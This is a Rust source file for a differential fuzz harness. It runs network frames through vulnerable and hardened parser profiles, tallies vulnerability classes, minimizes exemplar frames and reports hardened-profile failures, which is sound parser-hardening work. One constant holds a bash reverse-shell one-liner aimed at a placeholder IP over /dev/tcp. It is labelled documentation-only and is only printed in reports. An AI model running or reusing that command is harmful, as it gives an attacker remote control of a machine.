//! Differential fuzz harness.
//!
//! Every frame (the seeds first, then the mutation stream) is extracted
//! under each requested profile. Events from vulnerable profiles are
//! findings; any event from the hardened profile, or any key divergence on
//! a frame where no profile reported an event, is a harness failure.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use super::mutate::{mutate, MutationBudget};
use super::AttackError;
use crate::extract::{extract_bytes, ParserMode, ParserProfile, VulnClass};
use crate::packet::{PortId, RawFrame};

/// Documentation-only reverse-shell string carried by the worm payload.
/// Printed in reports, never executed or encoded by this crate.
pub const REFERENCE_SHELL_COMMAND: &str = "bash -c \"bash -i >& /dev/tcp/<IP>/8080 0>&1\"";

const FUZZ_PORT: PortId = PortId(1);
const KEPT_FAILURES: usize = 16;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Exemplar {
    pub frame: Vec<u8>,
    pub profile: ParserMode,
    /// Length before minimization.
    pub raw_len: usize,
}

impl Exemplar {
    fn rank(&self) -> (usize, &[u8]) {
        (self.frame.len(), &self.frame)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct FuzzReport {
    pub profiles: Vec<ParserMode>,
    pub frames_tested: u64,
    pub class_counts: BTreeMap<VulnClass, u64>,
    pub exemplars: BTreeMap<VulnClass, Exemplar>,
    /// Frames on which the hardened profile reported an event or touched
    /// memory outside the frame.
    pub hardened_events: u64,
    pub equivalence_violations: u64,
    /// First few offending frames for each failure kind.
    pub failure_frames: Vec<RawFrame>,
}

impl FuzzReport {
    pub fn count(&self, class: VulnClass) -> u64 {
        self.class_counts.get(&class).copied().unwrap_or(0)
    }

    pub fn is_clean(&self) -> bool {
        self.hardened_events == 0 && self.equivalence_violations == 0
    }

    /// Line-oriented summary.
    pub fn to_text(&self) -> String {
        let mut out = String::new();
        let profiles: Vec<&str> = self.profiles.iter().map(|p| p.as_str()).collect();
        let _ = writeln!(out, "fuzz report");
        let _ = writeln!(out, "profiles={}", profiles.join(","));
        let _ = writeln!(out, "frames_tested={}", self.frames_tested);
        let _ = writeln!(out, "hardened_events={}", self.hardened_events);
        let _ = writeln!(out, "equivalence_violations={}", self.equivalence_violations);
        for class in VulnClass::FINDINGS {
            let _ = write!(out, "class={} count={}", class, self.count(class));
            if let Some(ex) = self.exemplars.get(&class) {
                let _ = write!(
                    out,
                    " profile={} exemplar_len={} raw_len={} exemplar={}",
                    ex.profile,
                    ex.frame.len(),
                    ex.raw_len,
                    hex(&ex.frame)
                );
            }
            out.push('\n');
        }
        let _ = writeln!(out, "reference_payload_note={REFERENCE_SHELL_COMMAND} (documentation only)");
        let _ = writeln!(out, "status={}", if self.is_clean() { "clean" } else { "FAILED" });
        out
    }

    /// Exemplar frames in class order, for writing to a pcap.
    pub fn exemplar_frames(&self) -> Vec<RawFrame> {
        self.exemplars.values().map(|e| RawFrame::new(e.frame.clone())).collect()
    }

    /// Folds another shard's report into this one. Counts add up; per class
    /// the shorter (then lexicographically smaller) exemplar is kept, so the
    /// result does not depend on merge order.
    pub fn merge(&mut self, other: FuzzReport) {
        self.frames_tested += other.frames_tested;
        self.hardened_events += other.hardened_events;
        self.equivalence_violations += other.equivalence_violations;
        for (class, n) in other.class_counts {
            *self.class_counts.entry(class).or_default() += n;
        }
        for (class, ex) in other.exemplars {
            offer_exemplar(&mut self.exemplars, class, ex);
        }
        for f in other.failure_frames {
            if self.failure_frames.len() < KEPT_FAILURES {
                self.failure_frames.push(f);
            }
        }
    }
}

fn offer_exemplar(map: &mut BTreeMap<VulnClass, Exemplar>, class: VulnClass, ex: Exemplar) {
    match map.get(&class) {
        Some(current) if current.rank() <= ex.rank() => {}
        _ => {
            map.insert(class, ex);
        }
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn class_of(bytes: &[u8], profile: &ParserProfile) -> VulnClass {
    extract_bytes(bytes, FUZZ_PORT, profile).map_or(VulnClass::Benign, |r| r.class())
}

/// Greedy minimization: drop trailing octets one at a time while `class`
/// persists, then leading octets the same way.
pub fn minimize(frame: &[u8], profile: &ParserProfile, class: VulnClass) -> Vec<u8> {
    let mut end = frame.len();
    while end > 1 && class_of(&frame[..end - 1], profile) == class {
        end -= 1;
    }
    let mut start = 0;
    while end - start > 1 && class_of(&frame[start + 1..end], profile) == class {
        start += 1;
    }
    frame[start..end].to_vec()
}

struct Harness {
    profiles: Vec<ParserProfile>,
    report: FuzzReport,
    /// Shortest raw finding minimized so far, per class.
    minimized_from: BTreeMap<VulnClass, usize>,
}

impl Harness {
    fn check(&mut self, frame: &RawFrame) {
        let bytes = frame.bytes();
        if bytes.is_empty() {
            return;
        }
        self.report.frames_tested += 1;

        let mut keys = Vec::with_capacity(self.profiles.len());
        let mut any_event = false;
        for i in 0..self.profiles.len() {
            let profile = self.profiles[i];
            let Ok(result) = extract_bytes(bytes, FUZZ_PORT, &profile) else { continue };
            if profile.mode == ParserMode::Hardened {
                if !result.events.is_empty() || !result.memory.is_zero() {
                    self.report.hardened_events += 1;
                    self.keep_failure(frame);
                }
            } else if !result.events.is_empty() {
                any_event = true;
                let class = result.class();
                *self.report.class_counts.entry(class).or_default() += 1;
                self.consider_exemplar(bytes, &profile, class);
            }
            keys.push(result.key);
        }
        if !any_event && keys.windows(2).any(|w| w[0] != w[1]) {
            self.report.equivalence_violations += 1;
            self.keep_failure(frame);
        }
    }

    fn consider_exemplar(&mut self, bytes: &[u8], profile: &ParserProfile, class: VulnClass) {
        if self.minimized_from.get(&class).is_some_and(|&len| bytes.len() >= len) {
            return;
        }
        self.minimized_from.insert(class, bytes.len());
        let frame = minimize(bytes, profile, class);
        let ex = Exemplar { frame, profile: profile.mode, raw_len: bytes.len() };
        offer_exemplar(&mut self.report.exemplars, class, ex);
    }

    fn keep_failure(&mut self, frame: &RawFrame) {
        if self.report.failure_frames.len() < KEPT_FAILURES {
            self.report.failure_frames.push(frame.clone());
        }
    }
}

/// Runs the seeds and `budget.iterations` mutants through every profile.
pub fn diff_fuzz(
    corpus: &[RawFrame],
    budget: &MutationBudget,
    profiles: &[ParserProfile],
) -> Result<FuzzReport, AttackError> {
    let has_hardened = profiles.iter().any(|p| p.mode == ParserMode::Hardened);
    let has_vulnerable = profiles.iter().any(|p| p.mode.is_vulnerable());
    if !has_hardened || !has_vulnerable {
        return Err(AttackError::InvalidProfiles);
    }
    let mutants = mutate(corpus, budget)?;

    let mut harness = Harness {
        profiles: profiles.to_vec(),
        report: FuzzReport {
            profiles: profiles.iter().map(|p| p.mode).collect(),
            ..Default::default()
        },
        minimized_from: BTreeMap::new(),
    };
    for seed in corpus {
        harness.check(seed);
    }
    for mutant in mutants {
        harness.check(&mutant);
    }
    Ok(harness.report)
}
